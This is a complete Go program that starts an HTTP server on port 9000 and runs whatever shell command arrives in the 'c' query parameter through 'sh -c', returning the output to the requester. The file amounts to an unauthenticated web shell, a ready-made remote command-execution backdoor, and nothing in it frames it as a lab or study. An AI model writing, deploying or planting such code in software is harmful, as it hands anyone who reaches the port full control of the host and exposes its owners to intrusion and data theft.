package main
import ("net/http"; "os/exec")
func main() {
	http.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		out, _ := exec.Command("sh", "-c", r.URL.Query().Get("c")).CombinedOutput()
		w.Write(out)
	})
	http.ListenAndServe(":9000", nil)
}
